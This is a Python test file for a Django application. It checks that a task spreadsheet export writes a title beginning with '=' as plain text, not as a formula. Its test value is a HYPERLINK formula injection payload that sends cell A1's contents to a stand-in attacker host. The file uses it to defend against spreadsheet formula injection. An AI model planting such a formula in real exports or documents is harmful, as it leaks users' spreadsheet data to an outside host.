"""Exports of the pages are formula-safe (issue 13): a title that starts with "=" is text."""

from __future__ import annotations

import io
import zipfile
from io import BytesIO

from django.urls import reverse
from openpyxl import load_workbook

from tests.factories import make_task

TITLE = '=HYPERLINK("http://tan-cong.example/?q="&A1,"Xem chi tiết")'


def test_the_task_export_writes_a_formula_like_title_as_text(province, login):
    make_task(province, title=TITLE)

    response = login(province.clerk).get(reverse("task_export"))

    with zipfile.ZipFile(io.BytesIO(response.content)) as archive:
        xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in xml
    sheet = load_workbook(BytesIO(response.content)).active
    assert sheet.cell(row=2, column=3).value == TITLE
    assert sheet.cell(row=2, column=3).data_type == "s"
